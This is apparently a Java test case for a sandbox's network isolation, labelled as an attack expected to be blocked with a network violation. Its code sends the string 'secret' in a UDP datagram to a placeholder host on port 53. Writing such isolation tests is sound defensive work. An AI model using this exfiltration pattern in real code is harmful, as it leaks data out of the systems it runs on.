// attack: send data out in UDP datagrams
// expect: VIOLATION NETWORK
// stopped-by: network none
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
public class Udp {
  public static void main(String[] args) throws Exception {
    try (DatagramSocket socket = new DatagramSocket()) {
      byte[] data = "secret".getBytes();
      socket.send(new DatagramPacket(data, data.length, InetAddress.getByName("198.51.100.7"), 53));
      System.exit(42);
    }
  }
}
